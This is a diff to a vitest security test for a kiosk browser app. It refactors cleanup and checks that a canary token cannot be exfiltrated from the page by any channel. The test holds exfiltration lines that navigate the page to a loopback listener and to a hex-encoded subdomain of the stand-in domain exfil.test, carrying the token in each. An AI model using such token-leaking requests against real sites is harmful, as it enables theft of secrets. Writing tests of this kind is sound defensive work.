@@ -6,11 +6,12 @@
 import { writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { afterEach, expect, it } from 'vitest';
+import { expect, it } from 'vitest';
+import { closeAfterEach } from '../support/close-after-each';
 import { makeCanary } from '../support/canary';
-import { startExfilListener, type ExfilListener } from '../support/exfil-listener';
+import { startExfilListener } from '../support/exfil-listener';
 import { describeWithKeyring } from '../integration/secrets/keyring-env';
-import { embedsShowing, startHarness, type Harness } from './qiosk-harness';
+import { embedsShowing, startHarness } from './qiosk-harness';
 
 const DNS = '127.83.77.1'; // a loopback address nothing else uses (not resolved's 127.0.0.53)
 const DOMAIN = 'exfil.test';
@@ -56,20 +57,14 @@ const ATTACK = `async ({ http, turn, domain }) => {
 }`;
 
 describeWithKeyring('the token cannot leave the kiosk page', () => {
-  let h: Harness | undefined;
-  let l: ExfilListener | undefined;
-  afterEach(async () => {
-    await h?.close();
-    await l?.close();
-    h = l = undefined;
-  });
+  const closing = closeAfterEach();
 
   if (!root) console.warn('[exfil] SKIPPED: the DNS logger binds port 53 and Chromium needs its own mount namespace, so this needs root (CI runs as root).');
   it.skipIf(!root)('a main-frame script reaches no listener and no DNS name with the token, by any channel', async () => {
-    l = await startExfilListener(DNS);
+    const l = closing(await startExfilListener(DNS));
     const resolv = path.join(os.tmpdir(), `qiosk-exfil-resolv-${process.pid}.conf`);
     writeFileSync(resolv, `nameserver ${DNS}\noptions attempts:1 timeout:1\n`);
-    h = await startHarness({ secret: makeCanary(), resolvConf: resolv });
+    const h = closing(await startHarness({ secret: makeCanary(), resolvConf: resolv }));
     await embedsShowing(h.page);
     const { token, hex, results } = (await h.page.evaluate(`(${ATTACK})(${JSON.stringify({ http: `127.0.0.1:${l.httpPort}`, turn: l.turnPort, domain: DOMAIN })})`)) as {
       token: string; hex: string; results: Record<string, string>;
@@ -78,7 +73,7 @@ describeWithKeyring('the token cannot leave the kiosk page', () => {
     // Last, navigation away (the page may be gone after it): by URL and by name.
     await h.page.evaluate(`location.href = 'http://127.0.0.1:${l.httpPort}/nav?t=' + encodeURIComponent(${JSON.stringify(token)})`).catch(() => {});
     await h.page.evaluate(`location.href = 'http://${hex}.nav.${DOMAIN}/'`).catch(() => {});
-    await new Promise((r) => setTimeout(r, 1500));
+    await new Promise((r) => setTimeout(r, 1500)); // what never arrives has no event to wait for: a window
 
     const forms = [token, encodeURIComponent(token), hex, Buffer.from(token).toString('base64'), Buffer.from(token).toString('base64url')];
     const carrying = l.received.filter((r) => forms.some((f) => r.includes(f)));
